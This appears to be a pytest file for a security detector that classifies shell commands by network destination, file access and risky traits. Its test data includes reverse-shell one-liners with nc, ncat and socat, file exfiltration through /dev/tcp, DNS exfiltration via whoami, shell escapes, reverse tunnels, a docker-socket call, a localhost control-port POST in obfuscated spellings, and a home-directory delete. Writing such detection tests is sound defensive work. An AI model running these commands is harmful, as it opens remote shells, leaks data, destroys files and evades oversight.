from __future__ import annotations

import pytest
from tests.detection.programs.understood import (
    addresses_of,
    classes_of,
    command_of,
    facts_of,
    operations_of,
    paths_of,
    traits_of,
)

P = "/home/ada/project"
URL = "https://x.example/a.sh"


@pytest.mark.parametrize(
    ("command", "addresses"),
    [
        # downloads and uploads
        (f"curl {URL}", {("download", "x.example")}),
        (f"curl -sSL --url {URL}", {("download", "x.example")}),
        (f"curl -d a=b {URL}", {("upload", "x.example")}),
        (f"curl -G -d a=b {URL}", {("download", "x.example")}),
        (f"curl -X DELETE {URL}", {("upload", "x.example")}),
        (f"curl -x 10.0.0.1:3128 {URL}", {("connect", "10.0.0.1"), ("download", "x.example")}),
        (
            f"curl --connect-to x.example:443:203.0.113.7:443 {URL}",
            {("connect", "203.0.113.7"), ("download", "x.example")},
        ),
        (f"wget {URL}", {("download", "x.example")}),
        (f"wget --post-data a=b {URL}", {("upload", "x.example")}),
        (f"http POST {URL} a=b", {("upload", "x.example")}),
        (f"aria2c {URL}", {("download", "x.example")}),
        # remote shells and copies
        ("ssh -p 2222 bob@x.example", {("connect", "x.example")}),
        ("ssh -R 1:localhost:2 x.example", {("connect", "x.example"), ("tunnel", "x.example")}),
        ("ssh -J jump.example x.example", {("connect", "jump.example"), ("connect", "x.example")}),
        ("scp a bob@x.example:b", {("upload", "x.example")}),
        ("scp x.example:a b", {("download", "x.example")}),
        ("rsync -a d/ x.example:d/", {("upload", "x.example")}),
        ("rsync -a d/ e/", set()),
        ("sftp x.example", {("connect", "x.example")}),
        # sockets
        ("nc x.example 80", {("connect", "x.example")}),
        ("nc -lvnp 4444", {("listen", "0.0.0.0")}),
        ("nc -zv x.example 1-1000", {("scan", "x.example")}),
        ("socat - TCP:x.example:80", {("connect", "x.example")}),
        ("socat TCP-LISTEN:80 -", {("listen", "0.0.0.0")}),
        ("telnet x.example 25", {("connect", "x.example")}),
        ("openssl s_client -connect x.example:443", {("connect", "x.example")}),
        # look-ups and scans
        ("dig +short TXT a.x.example @9.9.9.9", {("dns", "a.x.example"), ("connect", "9.9.9.9")}),
        ("nmap -p 80 x.example", {("scan", "x.example")}),
        ("echo hi | mail bob@x.example", {("upload", "x.example")}),
        # only named
        (f"echo {URL}", set()),
        (f"git commit -m 'see {URL}'", set()),
        ("curl --help", set()),
        ("ssh -V", set()),
        ("ssh -G x.example", set()),
    ],
)
def test_addresses(command, addresses):
    assert addresses_of(command) == addresses


@pytest.mark.parametrize(
    ("command", "paths"),
    [
        (f"curl -o b {URL}", {("write", f"{P}/b")}),
        (f"curl -ob {URL}", {("write", f"{P}/b")}),
        (f"curl -fsSLO {URL}", {("write", f"{P}/a.sh")}),
        (f"curl -O --output-dir d {URL}", {("write", f"{P}/d/a.sh")}),
        (f"wget {URL}", {("write", f"{P}/a.sh")}),
        (f"wget -P d {URL}", {("write", f"{P}/d/a.sh")}),
        (f"wget -qO- {URL}", set()),
        (f"curl -T a {URL}", {("read", f"{P}/a")}),
        (f"curl --upload-file=a {URL}", {("read", f"{P}/a")}),
        (f"curl --data-bin @a {URL}", {("read", f"{P}/a")}),
        (f"curl -F 'x=@a;type=text/plain' {URL}", {("read", f"{P}/a")}),
        (f"curl -d '@-' {URL}", set()),
        (f"curl --data-raw @a {URL}", set()),
        (f"curl -H @a {URL}", {("read", f"{P}/a")}),
        (f"curl --json @a {URL}", {("read", f"{P}/a")}),
        (f"curl --key k --cert c {URL}", {("metadata", f"{P}/k"), ("metadata", f"{P}/c")}),
        ("scp a x.example:", {("read", f"{P}/a")}),
        ("ssh -i ~/.ssh/id_rsa x.example", {("metadata", "/home/ada/.ssh/id_rsa")}),
        ("curl --unix-socket /var/run/docker.sock http://x/", {("connect", "/var/run/docker.sock")}),
        (
            "rsync -a --delete empty/ ~/",
            {("copy_from", f"{P}/empty"), ("copy_to", "/home/ada"), ("delete", "/home/ada")},
        ),
    ],
)
def test_paths(command, paths):
    # ``wget --post-file`` and kin also write what comes back; only the named files matter here.
    assert paths_of(command) == paths


@pytest.mark.parametrize(
    ("command", "traits"),
    [
        ("ssh -R 1:localhost:2 x.example", {"reverse_tunnel"}),
        ("ssh -o 'RemoteForward 1 localhost:2' x.example", {"reverse_tunnel"}),
        ("ssh -L 1:localhost:2 x.example", {"forward_tunnel"}),
        ("ssh -D 1080 x.example", {"dynamic_tunnel"}),
        ("chisel client https://x.example R:1:localhost:2", {"reverse_tunnel"}),
        ("ngrok http 80", {"reverse_tunnel"}),
        ("nc -e /bin/sh x.example 4444", {"exec_on_connect"}),
        ("ncat --exec /bin/bash x.example 4444", {"exec_on_connect"}),
        ("ncat -c 'sh -i' x.example 4444", {"exec_on_connect"}),
        ("socat TCP:x.example:4444 EXEC:/bin/sh", {"exec_on_connect"}),
        ("nmap 10.0.0.0/24", {"multi_target"}),
        ("nmap 10.0.0.1-20", {"multi_target"}),
        ("masscan -iL hosts", {"multi_target"}),
        ("curl -k https://x.example/", {"insecure_tls"}),
        ("curl -X DELETE https://x.example/index", {"remote_delete"}),
        ("dig $(whoami).x.example", {"dns_dynamic"}),
        ("ssh -o ProxyCommand='sh -c id' x.example", {"shell_escape"}),
        ("rsync -e 'sh -c id' a x.example:", {"shell_escape"}),
    ],
)
def test_traits(command, traits):
    assert traits <= traits_of(command)


@pytest.mark.parametrize(
    ("command", "never"),
    [
        ("nc x.example 80", "exec_on_connect"),
        ("nmap 10.0.0.1", "multi_target"),
        ("nmap 10.0.0.1/32", "multi_target"),
        ("ngrok version", "reverse_tunnel"),
        ("ssh x.example", "reverse_tunnel"),
        ("rsync -e ssh a x.example:", "shell_escape"),
    ],
)
def test_traits_that_are_not_there(command, never):
    assert never not in traits_of(command)


def test_the_control_port_is_seen_in_every_spelling():
    for host in ("127.0.0.1", "localhost", "0x7f.1", "[::1]", "2130706433"):
        facts = facts_of(f"curl -X POST http://{host}:18970/enforce/allow")
        assert "control" in facts.network[0].classes, host


def test_the_device_of_the_shell_is_a_network():
    facts = facts_of("cat a > /dev/tcp/203.0.113.7/4444")
    (address,) = facts.network
    assert (address.host, address.port, address.external) == ("203.0.113.7", 4444, True)
    assert "dev_tcp" in address.classes
    assert {(flow.source, flow.sink) for flow in facts.flows} == {("file", "network")}


def test_the_runtime_socket_is_connected_to():
    assert "container_socket" in classes_of("curl --unix-socket /var/run/docker.sock http://x/", "connect")


def test_dry_runs_are_previews():
    assert command_of("rsync -n a x.example:", "rsync").effect == "preview"
    assert operations_of("rsync -n a x.example:") == set()
